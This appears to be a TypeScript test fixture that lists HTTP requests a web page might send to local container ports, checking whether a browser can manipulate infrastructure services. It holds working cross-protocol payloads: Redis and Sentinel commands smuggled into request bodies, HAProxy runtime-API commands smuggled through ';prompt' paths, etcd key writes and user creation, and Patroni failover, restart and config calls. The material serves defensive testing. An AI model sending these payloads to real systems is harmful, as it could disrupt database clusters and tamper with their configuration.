/** What a page sends to a port: as `fetch` without asking first, and from a form; `also` with other means of HTTP. */
export type Attack = {
  readonly path: string;
  readonly body: string;
  readonly type?: 'text/plain' | 'application/x-www-form-urlencoded';
  /** A method for which the browser asks the server first whether the page may. */
  readonly method?: 'PUT' | 'PATCH' | 'DELETE';
};

/** A key of etcd's; encoded it has one `=`, which a form puts into whatever it sends. */
export const KEY = '/paws-test/a-page';
/** A key of Redis'. */
export const REDIS_KEY = 'paws-test:page';

const encoded = (text: string) => Buffer.from(text).toString('base64');
const json = (value: object) => JSON.stringify(value);

/** For servers that read lines: HTTP's own lines are errors to them, and those of the body commands. */
function lines(...commands: readonly string[]): string {
  return `\r\n${commands.join('\r\n')}\r\n`;
}

const REDIS = lines(`SET ${REDIS_KEY} page`, 'CONFIG SET maxmemory 1gb', 'REPLICAOF NO ONE');
const SENTINEL = lines('SENTINEL SET mymaster quorum 1', 'SENTINEL RESET mymaster');

/**
 * What is tried at a port of a container: against the system that listens there, as far as a page knows it.
 * @param replica a member that HAProxy sends reads to.
 */
export function attacksOn(inside: number, leader: string, replica: string): readonly Attack[] {
  const runtime = lines(
    `set server postgres_replica_backend/${replica} state maint`,
    `disable server postgres_replica_backend/${replica}`,
  );
  const everywhere: readonly Attack[] = [
    { path: '/', body: REDIS },
    { path: '/', body: SENTINEL },
    // HAProxy's runtime API takes commands from one line, `;` between them, and `prompt` makes it go on reading.
    { path: '/;prompt', body: runtime },
    { path: '/;prompt;', body: runtime },
  ];
  switch (inside) {
    case 2379:
      return [...everywhere, ...ETCD];
    case 8008:
    case 8009:
    case 8010:
      return [...everywhere, ...patroni(leader, replica)];
    case 7000:
      return [...everywhere, ...statistics(replica)];
    case 8080:
    case 3000:
      return [...everywhere, ...APPLICATION];
    default:
      return everywhere;
  }
}

const ETCD: readonly Attack[] = ['/v3', '/v3beta', '/v3alpha'].flatMap((version) => [
  { path: `${version}/kv/put`, body: json({ value: encoded('page'), key: encoded(KEY) }) },
  { path: `${version}/kv/deleterange`, body: json({ key: encoded(KEY) }) },
  { path: `${version}/auth/user/add`, body: json({ name: 'page', password: 'page' }) },
]);

function patroni(leader: string, replica: string): readonly Attack[] {
  const change = json({ leader, candidate: replica, member: replica });
  const config = json({ ttl: 31 });
  return [
    ...['/switchover', '/failover', '/restart', '/reload', '/reinitialize', '/sigterm'].map((path) => ({
      path,
      body: change,
    })),
    { path: '/config', body: config },
    { path: '/config', body: config, method: 'PATCH' },
    { path: '/config', body: config, method: 'PUT' },
    { path: '/switchover', body: '', method: 'DELETE' },
  ];
}

function statistics(replica: string): readonly Attack[] {
  return ['3', '5', 'postgres_replica_backend'].map((backend) => ({
    path: '/stats',
    body: `s=${replica}&action=disable&b=%23${backend}`,
    type: 'application/x-www-form-urlencoded',
  }));
}

/** Where the application has an entry that a page might write. */
export const ENTRY = '/entries/11111111-1111-4111-8111-111111111111';
const LOAD = json({ rate: 10, seconds: 60 });
const APPLICATION: readonly Attack[] = [
  { path: '/load', body: LOAD },
  { path: '/load', body: LOAD, method: 'PUT' },
  { path: ENTRY, body: json({ body: 'page' }) },
  { path: ENTRY, body: json({ body: 'page' }), method: 'PUT' },
];
